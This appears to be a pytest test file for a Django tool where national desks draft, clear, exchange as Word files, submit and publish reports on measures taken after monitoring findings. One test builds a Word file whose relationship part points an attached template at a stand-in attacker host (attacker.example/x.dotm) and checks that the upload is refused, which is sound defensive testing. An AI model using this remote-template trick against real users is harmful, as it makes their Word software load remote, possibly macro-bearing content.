"""Reports back: drafts from a form, Word out and in, clearance by a second person, frozen submission, publication."""

from __future__ import annotations

import hashlib
import io
from pathlib import Path
from typing import Any

import pytest
from django.core.exceptions import PermissionDenied
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.utils import timezone
from docx import Document

from samsvar.implementation.drafts import (
    Block,
    DraftActNotPossible,
    DraftStatus,
    FieldContent,
    RecordKey,
    RecordKind,
)
from samsvar.implementation.duties import DutyKind
from samsvar.implementation.forms import find_form
from samsvar.implementation.indicators import GapReason
from samsvar.implementation.measures import MeasureVisibility, Stage
from samsvar.monitoring.report import Strength
from samsvar.network.rights import Role
from samsvar.site.audit.models import AuditEntry
from samsvar.site.convention.models import State
from samsvar.site.implementation import models
from samsvar.site.implementation.duties.queries import find_line
from samsvar.site.implementation.measures.actions import link_answer, save_measure
from samsvar.site.implementation.reports import actions, queries
from samsvar.site.implementation.reports.forms import SubmitForm
from samsvar.site.implementation.reports.records import figures_about, find_records
from samsvar.site.monitoring.models import Finding, FindingArticle
from tests.factories.figures import enter, make_regions, publish, shared_indicator
from tests.factories.implementation import make_duty, make_evidence, make_measure
from tests.factories.people import make_account, sign_in
from tests.factories.reports import make_finding, make_reading, make_report
from tests.factories.reports_back import make_draft, make_edited_file, make_submission, write
from tests.factories.stored import store_files_in

pytestmark = pytest.mark.django_db
FORM = find_form("report-back")
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@pytest.fixture(autouse=True)
def states(tmp_path: Any) -> Any:
    for code in ("XA", "XB"):
        State.objects.get_or_create(code=code)
    with store_files_in(tmp_path):
        yield


@pytest.fixture
def desk() -> Any:
    return make_account(Role.NATIONAL_DESK, state="XA")


@pytest.fixture
def colleague() -> Any:
    return make_account(Role.NATIONAL_DESK, state="XA")


@pytest.fixture
def report() -> Any:
    findings = [make_finding(1), make_finding(2, strength=Strength.WELCOMES), make_finding(3)]
    return make_report(reading=make_reading(findings))


def finding_of(report: Any, paragraph: str) -> Finding:
    return Finding.objects.get(report=report, paragraph=paragraph)


def status_of(draft: models.Draft) -> str:
    return models.Draft.objects.get(pk=draft.pk).status


def address(draft: models.Draft, *more: str) -> str:
    return "/".join((f"/en/report-drafts/XA/{draft.public_id}", *more, ""))


# --- Drafts -----------------------------------------------------------------------------------------------------------


def test_a_draft_has_a_section_for_each_recommendation_and_none_for_praise(report):
    draft = make_draft(report)
    sections = [
        (row.part_id, row.finding and Finding.objects.get(public_id=row.finding).paragraph)
        for row in draft.sections.all()
    ]
    assert sections == [("intro", ""), ("finding", "1"), ("finding", "3"), ("closing", "")]
    quoted = draft.sections.get(order=1)
    assert quoted.quotation["text"] == finding_of(report, "1").text
    assert quoted.quotation["citation"] == "GREVIO 2023 § 1, p. 1"
    assert quoted.heading.startswith("1. II. Integrated policies")


def test_a_new_draft_is_filled_with_measures_and_evidence_each_citing_its_version(report):
    measure = make_measure("Open a second shelter", stage=Stage.UNDER_WAY, lead_name="Ministry of Justice")
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    make_evidence(measure, title="Contract with the city", link="https://nordmark.example/contract")
    section = queries.to_library_section(make_draft(report).sections.get(order=1))
    (block,) = section.field("measures").blocks
    assert block.text.startswith("Open a second shelter (under way since ")
    assert block.record.citation == f"measure {measure.public_id}, version {measure.version}"
    (evidence,) = section.field("evidence").blocks
    assert "received 2 April 2026). https://nordmark.example/contract" in evidence.text
    assert [one.field_id for one in section.fields] == ["measures", "evidence"]


def test_sentences_of_records_are_in_the_language_of_the_report(report):
    measure = make_measure("Krisesenter nummer to", due="2027-03", language="nb")
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    texts = {
        language: queries.to_library_section(make_draft(report, language=language).sections.get(order=1))
        .field("measures")
        .text
        for language in ("en", "nb")
    }
    assert "March 2027" in texts["en"]
    assert "mars 2027" in texts["nb"]


def test_the_annexes_need_no_report_and_have_prepared_rows():
    draft = make_draft(None, form=find_form("state-report-annexes"), language="fr")
    section = queries.to_library_section(draft.sections.get(part_id="training"))
    assert section.field("initial").rows[2][0] == "Juges"


def test_the_report_back_needs_a_report_of_the_same_state(report):
    for wrong in (None, make_report(b"other", make_reading([make_finding(1, state="XB")], state="XB"))):
        with pytest.raises(actions.ReportRequired):
            make_draft(wrong, form=FORM)


# --- Writing and clearing ---------------------------------------------------------------------------------------------


def test_every_saved_version_is_kept_with_its_author(report, desk):
    draft = make_draft(report, desk)
    write(draft, desk, "First.")
    write(draft, desk, "Second.")
    versions = list(draft.sections.get(section_id="s1").versions.all())
    assert [(one.version, one.cause, one.by) for one in versions] == [
        (1, "start", desk), (2, "edit", desk), (3, "edit", desk),
    ]  # fmt: skip
    assert queries.section_as_exported(draft, "s1", 2).field("remains").text == "First."
    assert status_of(draft) == DraftStatus.COLLECTING


def test_a_section_that_someone_else_saved_is_not_overwritten(report, desk, colleague):
    draft = make_draft(report, desk)
    write(draft, colleague, "Theirs.")
    with pytest.raises(actions.ReportSectionChanged):
        actions.save_section(by=desk, draft=draft, section_id="s1", fields=[], seen=1)
    assert queries.to_library_section(draft.sections.get(section_id="s1")).field("remains").text == "Theirs."


def test_saving_the_same_text_again_writes_nothing(report, desk):
    draft = make_draft(report, desk)
    assert write(draft, desk, "Same.").sections == 1
    assert write(draft, desk, "Same.").sections == 0
    assert draft.sections.get(section_id="s1").version == 2


def test_only_a_second_person_of_the_desk_clears(report, desk, colleague):
    draft = make_draft(report, desk)
    write(draft, desk)
    actions.mark_written(by=colleague, draft=draft)
    for author in (desk, colleague):  # who wrote a section, and who marked it as written
        with pytest.raises(actions.SecondPersonRequired):
            actions.clear_draft(by=author, draft=draft, name="N", office="O")
    third = make_account(Role.NATIONAL_DESK, state="XA")
    actions.clear_draft(by=third, draft=draft, name="A. Name", office="Ministry of Justice")
    assert status_of(draft) == DraftStatus.CLEARED
    assert AuditEntry.objects.filter(verb="cleared a report", actor=third).exists()


def test_a_desk_of_another_state_and_a_reader_cannot_clear_or_submit(report, desk):
    draft = make_draft(report, desk)
    write(draft, desk)
    actions.mark_written(by=desk, draft=draft)
    for stranger in (make_account(Role.NATIONAL_DESK, state="XB"), make_account(Role.READER)):
        with pytest.raises(PermissionDenied):
            actions.clear_draft(by=stranger, draft=draft, name="N", office="O")
        with pytest.raises(PermissionDenied):
            actions.submit_draft(by=stranger, draft=draft, on_behalf_of="O")


def test_a_change_after_clearance_removes_it_and_says_so(client, report, desk, colleague):
    draft = make_draft(report, desk)
    write(draft, desk)
    actions.mark_written(by=desk, draft=draft)
    actions.clear_draft(by=colleague, draft=draft, name="A. Name", office="Ministry of Justice")
    sign_in(client, desk)
    row = draft.sections.get(section_id="s1")
    page = client.post(
        address(draft, "sections", "s1"),
        {"seen": row.version, "remains-0": "Changed.", "measures-new": ""},
        follow=True,
    ).content.decode()
    assert "The clearance by Ministry of Justice no longer applies, because the text has changed." in page
    assert status_of(draft) == DraftStatus.WRITTEN
    clearance = draft.clearances.get()
    assert (clearance.ended_at is not None, clearance.end_reason) == (True, row.heading)
    assert "no longer applies, because the draft was changed afterwards" in client.get(address(draft)).content.decode()
    with pytest.raises(DraftActNotPossible):
        actions.submit_draft(by=desk, draft=draft, on_behalf_of="Government")


def test_an_empty_draft_cannot_be_marked_as_written(report, desk):
    draft = make_draft(report, desk)
    models.Draft.objects.filter(pk=draft.pk).update(status=DraftStatus.COLLECTING)
    with pytest.raises(actions.EmptyDraft):
        actions.mark_written(by=desk, draft=draft)


def test_a_newer_record_is_shown_and_taken_over_but_not_over_an_edited_sentence(client, report, desk):
    first, second = make_measure("Shelter"), make_measure("Helpline")
    for measure in (first, second):
        link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    draft = make_draft(report, desk)
    section = queries.to_library_section(draft.sections.get(section_id="s1"))
    helpline, shelter = section.field("measures").blocks
    edited = FieldContent("measures", (Block("The helpline is open.", helpline.record), shelter))
    actions.save_section(by=desk, draft=draft, section_id="s1", fields=[edited], seen=1)
    for measure in (first, second):
        save_measure(by=None, state="XA", values={}, existing=measure, stage=Stage.DONE)
    page = sign_in(client, desk).get(address(draft, "sections", "s1")).content.decode()
    assert page.count("Newer version available") == 2
    assert "2 newer records" in client.get(address(draft)).content.decode()
    client.post(address(draft, "sections", "s1", "newer"))
    texts = [
        block.text for block in queries.to_library_section(draft.sections.get(section_id="s1")).field("measures").blocks
    ]
    assert texts[0] == "The helpline is open."
    assert texts[1].startswith("Shelter (done since ")


def test_a_record_can_be_added_to_a_section_and_a_block_removed_by_emptying_it(client, report, desk):
    draft = make_draft(report, desk)
    measure = make_measure("Helpline day and night")
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    sign_in(client, desk)
    page = client.get(address(draft, "sections", "s1")).content.decode()
    assert "Helpline day and night (decided since " in page
    data = {"seen": 1, "measures-take": [f"measure/{measure.public_id}"], "measures-new": "Own words."}
    assert client.post(address(draft, "sections", "s1"), data).status_code == 302
    (record, own) = queries.to_library_section(draft.sections.get(section_id="s1")).field("measures").blocks
    assert (record.record.key.public_id, own.text) == (measure.public_id, "Own words.")
    data = {"seen": 2, "measures-0": " ", "measures-1": "Own words."}
    client.post(address(draft, "sections", "s1"), data)
    assert queries.to_library_section(draft.sections.get(section_id="s1")).field("measures").text == "Own words."
    assert client.post(address(draft, "sections", "s1"), data).status_code == 409  # an old version was shown


def test_cells_of_a_table_are_saved_and_an_empty_row_is_left_out(client, desk):
    draft = make_draft(None, form=find_form("state-report-annexes"))
    section = draft.sections.get(part_id="training")
    sign_in(client, desk)
    data = {"seen": 1, "initial-0-0": "Judges", "initial-0-1": "yes", "initial-13-0": ""}
    response = client.post(address(draft, "sections", section.section_id), data)
    assert response.status_code == 302
    saved = queries.to_library_section(draft.sections.get(pk=section.pk))
    assert saved.field("initial").rows == (("Judges", "yes", "", "", "", "", ""),)


# --- Figures ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def shelters() -> models.Indicator:
    """Return the family places of the article that the recommendations are about, with a small number, as published."""
    indicator = shared_indicator("family-places")
    models.Indicator.objects.filter(pk=indicator.pk).update(articles=["11", "23"])
    north, south, west = make_regions("North", "South", "West")
    for region, number in ((None, 172), (north, 3), (south, 69), (west, 100)):
        enter(indicator, 2024, number, region=region, source="Register of shelters", comparability="Without hotels")
    enter(indicator, 2023, GapReason.NOT_COLLECTED)
    publish(indicator)
    return indicator


@pytest.fixture
def article_of_report(report: Any) -> None:
    Finding.objects.get(report=report, paragraph="1").articles.all().delete()
    FindingArticle.everything.create(finding=finding_of(report, "1"), article=23)


def effect_of(draft: models.Draft) -> FieldContent:
    return queries.to_library_section(draft.sections.get(section_id="s1")).field("effect")


def take_figure(draft: models.Draft, public_id: str = "XA/family-places/2024") -> None:
    """Add a figure to the first recommendation, as the desk does on its page."""
    (record,) = find_records([RecordKey(RecordKind.FIGURE, public_id)], draft.language).values()
    stored = draft.sections.get(section_id="s1")
    written = FieldContent("effect", (Block(record.text, record),))
    actions.save_section(by=None, draft=draft, section_id="s1", fields=[written], seen=stored.version)


@pytest.mark.usefixtures("article_of_report")
def test_a_figure_is_added_with_its_place_year_source_and_note_and_cites_its_version(client, report, desk, shelters):
    draft = make_draft(report, desk)
    assert effect_of(draft).blocks == ()  # no one has said that a figure is about the recommendation
    page = sign_in(client, desk).get(address(draft, "sections", "s1")).content.decode()
    assert "Family places in shelters (Nordmark, 2024): 172." in page
    data = {"seen": 1, "effect-take": ["figure/XA/family-places/2024", "figure/XA/family-places/2023"]}
    assert client.post(address(draft, "sections", "s1"), data).status_code == 302
    latest, earlier = effect_of(draft).blocks
    assert latest.text.endswith(", 2024): 172. Comparability: Without hotels. Source: Register of shelters.")
    assert latest.record.citation == "figure XA/family-places/2024, version 1"
    assert earlier.text.endswith(", 2023): no figure (not collected).")


@pytest.mark.usefixtures("article_of_report")
def test_no_small_number_and_none_from_which_it_follows_gets_into_a_draft(client, report, desk, shelters):
    draft = make_draft(report, desk)
    offered, _others = figures_about("XA", [23], "en")
    north, hidden = [one.text for one in offered if "suppressed" in one.text]
    assert "(North, 2024): suppressed to protect people; that does not mean that it is small." in north
    assert "(South, 2024): suppressed" in hidden
    page = sign_in(client, desk).get(address(draft, "sections", "s1")).content.decode()
    region = models.Region.objects.get(name="North").pk
    take_figure(draft, f"XA/family-places/2024/{region}")
    exported = "".join(one.text for one in Document(io.BytesIO(queries.draft_as_docx(draft))).paragraphs)
    for text in (page, exported, *(one.text for one in offered)):
        assert "2024): 3." not in text
        assert "2024): 69." not in text
    assert "suppressed to protect people" in exported


@pytest.mark.usefixtures("article_of_report")
def test_a_figure_that_is_not_published_is_not_offered_and_a_correction_waits_for_publication(
    client, report, desk, shelters
):
    draft = make_draft(report, desk)
    enter(shelters, 2025, 181)
    take_figure(draft)
    sign_in(client, desk)
    assert "2025" not in "".join(one.text for one in figures_about("XA", [23], "en")[0])
    enter(shelters, 2024, 173, source="Register of shelters")
    page = client.get(address(draft, "sections", "s1")).content.decode()
    assert "the correction is not published yet" in page
    assert "Newer version available" not in page
    models.IndicatorValue.objects.filter(year=2024, region__isnull=False).delete()  # so that the total may change
    publish(shelters)
    page = client.get(address(draft, "sections", "s1")).content.decode()
    assert "the correction is not published yet" not in page
    assert "Newer version available" in page
    client.post(address(draft, "sections", "s1", "newer"))
    assert "2024): 173. Source:" in effect_of(draft).text


@pytest.mark.usefixtures("article_of_report")
def test_a_submitted_figure_stays_and_its_revision_is_shown_as_changed(client, report, shelters):
    draft = make_draft(report)
    take_figure(draft)
    submission = make_submission(draft)
    url = f"/en/report-back/{draft.public_id}/"
    assert "figure/XA/family-places/2024" in submission.public_records
    enter(shelters, 2024, 172, source="Register of shelters", comparability="Hotels included")
    assert "None of the public records that it cites has changed." in client.get(url).content.decode()
    publish(shelters)
    (line,) = queries.submitted_report(submission).changes
    assert "Comparability: Hotels included." in line.change.now.text
    page = client.get(url).content.decode()
    assert "<ins>" in page
    assert "Without hotels" in page
    assert "Without hotels" in submission.json


def test_figures_of_other_articles_are_offered_apart_and_those_of_other_states_never(client, report, desk, shelters):
    orders = shared_indicator("protection-orders-granted")
    enter(orders, 2023, 300, denominator=530)
    enter(orders, 2024, 412, denominator=530)
    enter(orders, 2024, 9, denominator=10, state="XB")
    publish(orders)
    publish(orders, state="XB")
    about, others = figures_about("XA", [53], "en")
    assert [one.key.public_id for one in about] == [
        "XA/protection-orders-granted/2024", "XA/protection-orders-granted/2023",
    ]  # fmt: skip
    assert about[0].text.endswith(", 2024): 412 (granted) of 530 (decided), 78 %.")
    assert [one.key.public_id for one in others] == ["XA/family-places/2024"]
    assert [len(figures) for figures in figures_about("XA", None, "nb")] == [7, 0]  # annexes
    draft = make_draft(report, desk)
    data = {"seen": 1, "effect-other": ["figure/XA/protection-orders-granted/2024"]}
    sign_in(client, desk).post(address(draft, "sections", "s1"), data)
    assert effect_of(draft).text == about[0].text


def test_what_is_missing_is_said_in_the_language_of_the_reader(client, desk):
    draft = make_draft(None, form=find_form("state-report-annexes"))
    section = draft.sections.get(part_id="training")
    gap = find_form("state-report-annexes").part("training").fields[0].gap
    sign_in(client, desk)
    page = client.get(address(draft, "sections", section.section_id).replace("/en/", "/fr/", 1)).content.decode()
    assert draft.language == "en"
    assert gap["fr"] in page
    assert gap["en"] not in page


# --- Word -------------------------------------------------------------------------------------------------------------


def edit_file(content: bytes, old: str, new: str, comment: str = "") -> bytes:
    document = Document(io.BytesIO(content))
    paragraph = next(one for one in document.paragraphs if old in one.text)
    paragraph.runs[0].text = paragraph.runs[0].text.replace(old, new)
    if comment:
        document.add_comment(paragraph.runs, text=comment, author="Minister’s office", initials="MO")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def upload(client: Client, draft: models.Draft, content: bytes) -> Any:
    file = SimpleUploadedFile("edited.docx", content, content_type=DOCX)
    return client.post(address(draft, "upload"), {"file": file}, follow=True)


def test_an_edited_word_file_is_shown_with_its_differences_and_saved_only_when_accepted(client, report, desk):
    draft = make_draft(report, desk)
    write(draft, desk, "The act is in force.")
    sign_in(client, desk)
    exported = client.get(address(draft, "draft.docx").removesuffix("/"))
    assert exported["Content-Type"] == DOCX
    assert any("No measure is described" in one.text for one in Document(io.BytesIO(exported.content)).comments)
    edited = edit_file(exported.content, "in force", "in force since May", comment="Which day?")
    page = upload(client, draft, edited)
    shown = page.content.decode()
    assert "<ins> since May.</ins>" in shown or "<ins>force since May.</ins>" in shown
    assert "Which day?" in shown
    assert draft.sections.get(section_id="s1").version == 2
    after = client.post(page.redirect_chain[-1][0], {"sections": ["s1"]}, follow=True).content.decode()
    assert "1 section saved." in after
    row = draft.sections.get(section_id="s1")
    assert queries.to_library_section(row).field("remains").text == "The act is in force since May."
    assert row.versions.get(version=3).cause == "word"
    note = draft.notes.get()
    assert (note.text, note.author_name, note.section_id) == ("Which day?", "Minister’s office", "s1")
    section = client.get(address(draft, "sections", "s1")).content.decode()
    assert "Which day?" in section
    client.post(address(draft, "notes", str(note.pk), "done"))
    assert "Which day?" not in client.get(address(draft, "sections", "s1")).content.decode()


def test_a_section_saved_after_the_export_is_marked_and_replaced_only_if_it_is_chosen(client, report, desk):
    draft = make_draft(report, desk)
    write(draft, desk, "The act is in force.")
    sign_in(client, desk)
    exported = queries.draft_as_docx(draft)
    write(draft, desk, "Saved here in the meantime.")
    page = upload(client, draft, edit_file(exported, "in force", "in Word"))
    assert "This section was saved here after the file was exported." in page.content.decode()
    assert 'value="s1" checked' not in page.content.decode().replace("  ", " ")
    client.post(page.redirect_chain[-1][0], {"sections": []})
    assert (
        queries.to_library_section(draft.sections.get(section_id="s1")).field("remains").text
        == "Saved here in the meantime."
    )


def test_an_unchanged_section_of_an_old_file_does_not_undo_what_was_saved_since(client, report, desk):
    draft = make_draft(report, desk)
    exported = queries.draft_as_docx(draft)
    write(draft, desk, "Saved here in the meantime.")
    page = upload(sign_in(client, desk), draft, exported).content.decode()
    assert "The texts of the file and of the draft are the same." in page


def test_files_of_another_draft_damaged_files_and_other_types_are_refused_by_name(client, report, desk):
    draft, other = make_draft(report, desk), make_draft(report, desk)
    sign_in(client, desk)
    document = Document()
    buffer = io.BytesIO()
    document.save(buffer)
    for content, message in (
        (queries.draft_as_docx(other), "The file was exported from another draft"),
        (buffer.getvalue(), "its bookmarks are missing"),
        (b"%PDF-1.7 no Word file", "This file is not one of the accepted types"),
    ):
        assert message in upload(client, draft, content).content.decode()
    assert not draft.edited_files.exists()


def test_a_file_with_a_remote_template_is_refused(client, report, desk):
    import zipfile

    draft = make_draft(report, desk)
    content = io.BytesIO(queries.draft_as_docx(draft))
    relationship = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="https://attacker.example/x.dotm" TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(content, "a") as archive:
        archive.writestr("word/_rels/settings.xml.rels", relationship)
    page = upload(sign_in(client, desk), draft, content.getvalue()).content.decode()
    assert "would load content from another location" in page


def test_a_file_saved_by_libreoffice_passes_the_checks_and_shows_its_differences(client, report, desk):
    draft = make_draft(report, desk)
    models.Draft.objects.filter(pk=draft.pk).update(public_id="d1", number=3)  # of the draft that was exported
    draft.refresh_from_db()
    saved = Path(__file__).parents[2] / "interchange" / "libreoffice" / "edited_report_back.docx"
    page = upload(sign_in(client, desk), draft, saved.read_bytes()).content.decode()
    assert "says the county." in page
    assert "Since when?" in page
    assert "Letter of the county." in page
    assert "No evidence is named." not in page  # a gap


# --- Submission and publication ---------------------------------------------------------------------------------------


def test_a_submitted_report_is_frozen_and_its_hash_is_that_of_the_published_file(client, report, desk):
    draft = make_draft(report, desk)
    submission = make_submission(draft)
    with pytest.raises(DraftActNotPossible):
        write(draft, desk, "Too late.")
    data = client.get(f"/en/report-back/{draft.public_id}/report.json")
    assert hashlib.sha256(data.content).hexdigest() == submission.sha256
    page = client.get(f"/en/report-back/{draft.public_id}/").content.decode()
    assert submission.sha256 in page
    assert "Government of Nordmark" in page
    assert "A. Name" not in page
    file = client.get(f"/en/report-back/{draft.public_id}/report.docx")
    assert submission.sha256 in "".join(one.text for one in Document(io.BytesIO(file.content)).paragraphs)


def test_an_altered_copy_is_announced(client, report):
    draft = make_draft(report)
    submission = make_submission(draft)
    assert "no longer matches its hash" not in client.get(f"/en/report-back/{draft.public_id}/").content.decode()
    models.Submission.objects.filter(pk=submission.pk).update(json=submission.json.replace("In force", "In doubt"))
    assert "no longer matches its hash" in client.get(f"/en/report-back/{draft.public_id}/").content.decode()


def test_a_measure_stopped_after_submission_is_shown_as_changed_and_the_text_stays(client, report):
    measure = make_measure("Open a second shelter", stage=Stage.UNDER_WAY)
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    draft = make_draft(report)
    make_submission(draft)
    url = f"/en/report-back/{draft.public_id}/"
    before = client.get(url).content.decode()
    assert "None of the public records that it cites has changed." in before
    save_measure(by=None, state="XA", values={}, existing=measure, stage=Stage.STOPPED, reason="No budget")
    later = make_measure("Rent flats instead")
    link_answer(by=None, measure=later, finding=finding_of(report, "1"))
    after = client.get(url).content.decode()
    assert "Changed since submission" in after
    assert "reason given: No budget" in after
    assert "Rent flats instead" in after
    report_now = queries.submitted_report(models.Submission.objects.get(draft=draft))
    assert [line.change.kind.value for line in report_now.changes] == ["changed", "added"]
    assert report_now.parts[1].section.field("measures").blocks[0].text.startswith("Open a second shelter (under way")


def test_changes_of_a_measure_that_was_never_public_are_not_shown(client, report):
    measure = make_measure("A secret pilot", visibility=MeasureVisibility.DESK)
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    draft = make_draft(report)
    make_submission(draft)
    save_measure(by=None, state="XA", values={}, existing=measure, stage=Stage.STOPPED, reason="Hidden reason")
    page = client.get(f"/en/report-back/{draft.public_id}/").content.decode()
    assert "Hidden reason" not in page
    assert "None of the public records that it cites has changed." in page


def test_a_public_measure_that_is_made_private_is_shown_as_no_longer_public(client, report):
    measure = make_measure("Open a second shelter")
    link_answer(by=None, measure=measure, finding=finding_of(report, "1"))
    draft = make_draft(report)
    make_submission(draft)
    save_measure(by=None, state="XA", values={"visibility": MeasureVisibility.DESK}, existing=measure)
    page = client.get(f"/en/report-back/{draft.public_id}/").content.decode()
    assert "withdrawn, or no longer public" in page


def test_a_draft_and_a_submitted_report_are_not_public_until_published(client, report, desk):
    draft = make_draft(report, desk)
    submission = make_submission(draft, publish=False)
    for name in ("", "report.json", "report.docx"):
        assert client.get(f"/en/report-back/{draft.public_id}/{name}").status_code == 404
    sign_in(client, desk)
    assert client.post(address(draft, "publish"), follow=True).status_code == 200
    assert client.get(f"/en/report-back/{draft.public_id}/").status_code == 200
    submission.refresh_from_db()
    assert submission.published_by == desk


def test_the_progress_tab_of_a_country_lists_its_published_reports(client, report):
    assert "Report on measures taken" not in client.get("/en/countries/XA/progress/").content.decode()
    draft = make_draft(report)
    make_submission(draft, publish=False)
    assert "Report on measures taken" not in client.get("/en/countries/XA/progress/").content.decode()
    actions.publish_submission(by=None, draft=draft)
    assert f"/en/report-back/{draft.public_id}/" in client.get("/en/countries/XA/progress/").content.decode()


def test_a_new_version_starts_from_the_submitted_text_and_leaves_it_alone(client, report, desk):
    draft = make_draft(report, desk)
    make_submission(draft)
    new = actions.start_new_version(by=desk, draft=draft)
    assert (new.number, new.status) == (2, DraftStatus.OPEN)
    assert queries.to_library_section(new.sections.get(section_id="s1")).field("remains").text == "In force."
    with pytest.raises(actions.VersionExists):
        actions.start_new_version(by=desk, draft=draft)
    write(new, desk, "In force for a year.")
    make_submission(new)
    page = client.get(f"/en/report-back/{draft.public_id}/").content.decode()
    assert "There is a newer version of this report." in page


# --- Duties -----------------------------------------------------------------------------------------------------------

DUTY = "baseline-report_back"
NEW = "/en/report-drafts/XA/new/"
DUTIES = "/en/countries/XA/duties/"


def duty_row(kind: DutyKind = DutyKind.REPORT_BACK) -> models.Duty:
    return models.Duty.objects.get(state_id="XA", procedure="baseline", kind=kind)


def duty_status(kind: DutyKind = DutyKind.REPORT_BACK) -> str:
    line = find_line("XA", "baseline", kind, timezone.localdate())
    return line.status.value if line else ""


def proposed_duty(client: Client) -> str:
    return client.get(NEW).context["form"]["duty"].value() or ""


def test_the_only_open_duty_is_proposed_and_of_several_none(client, report, desk):
    sign_in(client, desk)
    assert proposed_duty(client) == ""
    make_duty(DutyKind.STATE_REPORT)
    make_duty(DutyKind.REPORT_BACK, procedure="thematic", done="2026-02", done_source="Letter")
    assert proposed_duty(client) == ""  # a report back completes neither of these
    make_duty()
    assert proposed_duty(client) == DUTY
    make_duty(DutyKind.SECOND_REPORT_BACK)
    assert proposed_duty(client) == ""
    offered = [key for key, _label in client.get(NEW).context["form"].fields["duty"].choices]
    assert offered == ["", DUTY, "baseline-second_report_back"]


def test_a_draft_is_tied_to_the_duty_that_was_chosen_and_annexes_to_none(client, report, desk):
    make_duty()
    sign_in(client, desk)
    data = {"form": "report-back", "report": report.pk, "variant": "full", "language": "en", "title": "T", "duty": DUTY}
    page = client.post(NEW, data, follow=True).content.decode()
    assert f'<a href="{DUTIES}">Report on the measures taken</a>' in page
    assert "due 1 June 2026" in page
    client.post(NEW, {**data, "form": "state-report-annexes", "report": ""})
    assert sorted(models.Draft.objects.values_list("form_id", "duty")) == [
        ("report-back", DUTY), ("state-report-annexes", ""),
    ]  # fmt: skip
    for wrong in ("baseline-visit", "follow_up-report_back"):
        with pytest.raises(ValueError, match="cannot complete this step"):
            make_draft(report, duty=wrong)


def test_submitting_completes_the_duty_that_day_with_the_report_as_its_source(client, report, desk, colleague):
    make_duty()
    draft = make_draft(report, desk, duty=DUTY, title="A title for the desk")
    write(draft, desk)
    sign_in(client, desk)
    assert "A title for the desk" in client.get(DUTIES).content.decode()  # the draft of an open duty
    assert "A title for the desk" not in Client().get(DUTIES).content.decode()
    actions.mark_written(by=desk, draft=draft)
    actions.clear_draft(by=colleague, draft=draft, name="A. Name", office="Ministry of Justice")
    assert duty_status() == "overdue"
    data = {"on_behalf_of": "Government of Nordmark", "duty": DUTY}
    page = client.post(address(draft, "submit"), data, follow=True).content.decode()
    assert "The duty is recorded as done today." in page
    assert duty_status() == "submitted"
    duty = duty_row()
    assert (duty.done, duty.done_draft, duty.due) == (timezone.localdate().isoformat(), draft, "2026-06-01")
    entry = AuditEntry.objects.get(verb="corrected a duty", actor=desk)
    assert entry.details["after"] == {
        "done": duty.done, "done_source": f"report-back/{draft.public_id}", "report": draft.public_id,
    }  # fmt: skip
    assert AuditEntry.objects.get(verb="submitted a report").details["duty_done"] == DUTY
    # everyone sees that it was submitted, the desk also which draft, and everyone after its publication
    public = Client().get(DUTIES).content.decode()
    assert "report of the state, not published here" in public
    assert draft.public_id not in public
    assert address(draft) in client.get(DUTIES).content.decode()
    actions.publish_submission(by=desk, draft=draft)
    assert f'<a href="/en/report-back/{draft.public_id}/" lang="en">A title for the desk</a>' in (
        Client().get(DUTIES).content.decode()
    )


def test_the_duty_can_be_changed_or_left_out_when_the_report_is_submitted(client, report, desk):
    make_duty()
    make_duty(DutyKind.SECOND_REPORT_BACK)
    sign_in(client, desk)
    for chosen in ("", "baseline-second_report_back"):
        draft = make_draft(report, duty=DUTY)
        write(draft)
        actions.mark_written(by=None, draft=draft)
        actions.clear_draft(by=None, draft=draft, name="A. Name", office="Ministry of Justice")
        assert client.get(address(draft, "submit")).context["form"]["duty"].value() == DUTY
        client.post(address(draft, "submit"), {"on_behalf_of": "Government of Nordmark", "duty": chosen})
        assert models.Draft.objects.get(pk=draft.pk).duty == chosen
    assert duty_status() == "overdue"
    assert duty_row(DutyKind.SECOND_REPORT_BACK).done_draft == draft


def test_a_duty_that_is_done_already_keeps_its_day_and_source(client, report, desk):
    make_duty(done="2026-05-20", done_source="Letter of 20 May 2026")
    draft = make_draft(report, duty=DUTY)
    write(draft)
    actions.mark_written(by=None, draft=draft)
    actions.clear_draft(by=None, draft=draft, name="A. Name", office="Ministry of Justice")
    data = {"on_behalf_of": "Government of Nordmark", "duty": DUTY}
    page = sign_in(client, desk).post(address(draft, "submit"), data, follow=True).content.decode()
    assert "The duty was done before; what is recorded about it has not changed." in page
    assert (duty_row().done, duty_row().done_source, duty_row().done_draft) == (
        "2026-05-20", "Letter of 20 May 2026", None,
    )  # fmt: skip


def test_a_new_version_and_a_correction_say_what_happens_to_the_duty(client, report, desk):
    make_duty()
    draft = make_draft(report, duty=DUTY)
    make_submission(draft)
    done = duty_row().done
    sign_in(client, desk)
    page = client.post(address(draft, "new-version"), follow=True).content.decode()
    assert "The duty stays done, with the day and the source that are recorded." in page
    later = models.Draft.objects.get(replaces=draft)
    write(later, text="In force for a year.")
    make_submission(later)
    assert (later.duty, duty_row().done_draft, duty_row().done) == (DUTY, draft, done)
    form = f"{DUTIES}baseline/report_back/"
    assert "A report submitted here completed this step:" in client.get(form).content.decode()
    data = {"due": "2026-06-01", "basis": "printed", "due_source": "Conclusions, paragraph 9"}
    kept = client.post(form, {**data, "done": "2026-05-30", "done_source": duty_row().done_source}, follow=True)
    assert "no longer refers to it" not in kept.content.decode()
    assert duty_row().done_draft == draft  # only the day was corrected
    undone = client.post(form, data, follow=True).content.decode()
    assert "The report that completed this step stays submitted, but the step no longer refers to it." in undone
    assert (duty_row().done_draft, duty_status(), status_of(draft)) == (None, "overdue", "published")


def test_removing_what_was_recorded_says_that_the_report_stays_submitted(client, report, desk):
    make_duty()
    draft = make_draft(report, duty=DUTY)
    make_submission(draft, publish=False)
    page = sign_in(client, desk).post(f"{DUTIES}baseline/report_back/remove/", follow=True).content.decode()
    assert "The report that completed this step stays submitted." in page
    assert (duty_status(), status_of(draft)) == ("", "submitted")
